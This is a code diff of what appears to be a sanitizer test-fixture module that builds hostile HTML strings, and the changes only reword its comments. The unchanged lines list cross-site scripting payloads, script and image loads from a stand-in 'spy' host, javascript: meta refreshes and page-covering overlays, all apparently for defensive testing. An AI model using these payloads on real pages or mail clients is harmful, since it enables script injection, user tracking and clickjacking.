@@ -1,12 +1,12 @@
 /**
- * Pieces of letters that want to do harm: what they would run calls `alert`, asks for something of `spy`, or leads the page
- * away. What says "press" is pressed. Written from what browsers and cleaners got wrong over the years.
+ * Pieces of hostile letters: they call `alert`, load from `spy`, or navigate the page; "press" is pressed.
+ * From known failures of browsers and sanitizers.
  */
 export function hostilePieces(spy: string): string[] {
   return [...plain(spy), ...confusing(runOf(spy)), ...covering(spy)];
 }
 
-/** The same as few letters: in each some pieces, and last of all one that would hide what came after it. */
+/** The same in few letters, the piece that hides later ones last. */
 export function hostileLetters(spy: string): string[] {
   const last = confusing(runOf(spy));
   const others = plain(spy);
@@ -21,7 +21,7 @@ const plain = (spy: string) => [
   ...leading(spy),
 ];
 
-/** Scripts, in tags, attributes and addresses. */
+/** Scripts in tags, attributes and addresses. */
 const running = (run: string, code: string, spy: string) => [
   `<script>${code}</script>`,
   `<script src="${spy}/script.js"></script>`,
@@ -67,7 +67,7 @@ const running = (run: string, code: string, spy: string) => [
   `<p style="width:expression(${run});behavior:url(#x);-moz-binding:url(${spy}/x.xml#x)">x</p>`,
 ];
 
-/** What a cleaner reads otherwise than a browser. */
+/** What a sanitizer parses otherwise than a browser. */
 const confusing = (run: string) => {
   const image = `<img src=x onerror="${run}">`;
   return [
@@ -97,7 +97,7 @@ const confusing = (run: string) => {
   ];
 };
 
-/** What is fetched without being asked for. */
+/** What loads without a click. */
 const loading = (spy: string) => [
   `<img src="${spy}/img.png" width=100 height=50>`,
   `<img src="//${new URL(spy).host}/relative.png" width=100 height=50>`,
@@ -146,7 +146,7 @@ const loading = (spy: string) => [
   `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${spy}/in-svg.png'/></svg>" width=9>`,
 ];
 
-/** What leads the page, its links or its forms elsewhere. */
+/** What navigates the page, its links or its forms. */
 const leading = (spy: string) => [
   `<meta http-equiv="refresh" content="0;url=${spy}/refresh">`,
   `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv="refresh" content="0;url=data:text/html,x">`,
@@ -161,7 +161,7 @@ const leading = (spy: string) => [
   `<dialog open>x</dialog><div popover=auto id=p>x</div><button popovertarget=p>press</button>`,
 ];
 
-/** What covers what is not its own, or is too much. */
+/** What covers other elements, or is too large. */
 const covering = (spy: string) => [
   `<div style="position:fixed;inset:0;z-index:2147483647;background:red"><a href="${spy}/covered">over</a></div>`,
   `<div style="position:absolute;top:-500px;left:-500px;width:9999px;height:9999px;background:red">x</div>`,
